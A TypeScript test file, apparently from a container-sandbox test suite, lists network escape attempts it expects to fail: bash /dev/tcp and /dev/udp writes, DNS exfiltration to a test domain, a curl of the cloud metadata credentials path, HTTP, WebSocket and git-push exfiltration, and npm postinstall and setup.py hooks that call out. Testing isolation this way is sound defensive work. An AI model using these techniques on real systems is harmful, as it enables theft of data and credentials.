import type { Attack } from "./attack.ts";
import type { WithoutWall } from "./containers.ts";
import { BRIDGE } from "./engine.ts";
import { type ShellAttack, shellAttack } from "./shell-attack.ts";
import { METADATA_ADDRESS, METADATA_SECRET } from "./targets.ts";

/** The default bridge: what a container has unless somebody takes it away. */
export const onTheBridge: WithoutWall = ({ HostConfig }) => {
  HostConfig.NetworkMode = "bridge";
  HostConfig.Dns = [BRIDGE.v4];
};

const overTheNetwork = (spec: Pick<ShellAttack, "name" | "script" | "worked">): Attack =>
  shellAttack({ area: "network", by: "no network in the sandbox", without: onTheBridge, ...spec });

/** A query for `<word>.exfiltrated.test`, made by hand, so that no resolver stands in the way. */
const dnsPacket = (word: string, server: string) => `python3 - <<'PYTHON'
import socket, struct
name = b"".join(bytes([len(part)]) + part for part in b"${word}.exfiltrated.test".split(b"."))
packet = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + name + b"\\0" + struct.pack(">2H", 1, 1)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(packet, ("${server}", 53))
PYTHON`;

/** Ways out of a sandbox that has its walls, none of which goes through the gateway. */
export const networkAttacks: Attack[] = [
  overTheNetwork({
    name: "direct TCP",
    script: ({ word }) => `timeout 5 bash -c 'echo ${word} > /dev/tcp/${BRIDGE.v4}/7001'`,
  }),
  overTheNetwork({
    name: "direct UDP",
    script: ({ word }) => `timeout 5 bash -c 'echo ${word} > /dev/udp/${BRIDGE.v4}/7003'`,
  }),
  overTheNetwork({
    name: "IPv6",
    script: ({ word }) => `timeout 5 bash -c 'echo ${word} > /dev/tcp/${BRIDGE.v6}/7002'`,
  }),
  overTheNetwork({
    name: "DNS through the resolver",
    script: ({ word }) => `timeout 8 getent ahostsv4 ${word}.exfiltrated.test`,
  }),
  overTheNetwork({
    name: "DNS by a packet of its own",
    script: ({ word }) => dnsPacket(word, BRIDGE.v4),
  }),
  overTheNetwork({
    name: "the cloud's metadata address",
    script: () => `curl -sS -m 5 http://${METADATA_ADDRESS}/latest/meta-data/iam/security-credentials/role`,
    worked: (_aim, { output }) => output.includes(METADATA_SECRET),
  }),
  overTheNetwork({
    name: "raw HTTP",
    script: ({ arena, word }) => `curl -sS -m 5 -d ${word} ${arena.targets.http}/collect`,
  }),
  overTheNetwork({
    name: "WebSocket",
    script: ({ arena, word }) =>
      `curl -sS -m 3 --http1.1 -H 'connection: Upgrade' -H 'upgrade: websocket' -H 'sec-websocket-version: 13' ` +
      `-H 'sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==' ${arena.targets.http}/${word}`,
  }),
  overTheNetwork({
    name: "a git remote of its own",
    script: ({ arena, word }) =>
      `rm -rf /tmp/r && git init -q /tmp/r && cd /tmp/r && git -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m x && ` +
      `timeout 8 git push ${arena.targets.http}/${word}.git HEAD:main`,
  }),
  overTheNetwork({
    name: "a package's post-install script",
    script: ({ arena, word }) => `rm -rf /tmp/evil /tmp/app && mkdir -p /tmp/evil /tmp/app && cd /tmp/app
printf '%s' '{"name":"evil","version":"1.0.0","scripts":{"postinstall":"curl -sS -m 5 ${arena.targets.http}/${word}"}}' > /tmp/evil/package.json
printf '%s' '{"name":"app","version":"1.0.0"}' > package.json
timeout 40 npm install --no-audit --no-fund --install-links=false --foreground-scripts /tmp/evil`,
  }),
  overTheNetwork({
    name: "a pip package's setup script",
    script: ({ arena, word }) => `rm -rf /tmp/pipevil && mkdir -p /tmp/pipevil && cd /tmp/pipevil
printf '%s\\n' 'import subprocess' 'subprocess.run(["curl", "-sS", "-m", "5", "${arena.targets.http}/${word}"])' 'from setuptools import setup' 'setup(name="evil", version="1")' > setup.py
timeout 20 python3 setup.py --version`,
  }),
  shellAttack({
    area: "network",
    name: "a proxy from the environment's variables",
    by: "no network in the sandbox",
    without: onTheBridge,
    script: ({ arena, word }) =>
      `http_proxy=${arena.targets.http} curl -sS -m 5 http://exfiltrated.test/${word}`,
  }),
  shellAttack({
    area: "network",
    name: "frames of its own making",
    by: "no capabilities, and few system calls",
    without: (settings, folder) => {
      onTheBridge(settings, folder);
      settings.User = "0:0";
      settings.HostConfig.CapDrop = null;
      settings.HostConfig.SecurityOpt = ["seccomp=unconfined"];
    },
    script: () =>
      `python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW).bind(("lo", 0)); print("raw socket")'`,
    worked: (_aim, { output }) => output.includes("raw socket\n"),
  }),
];
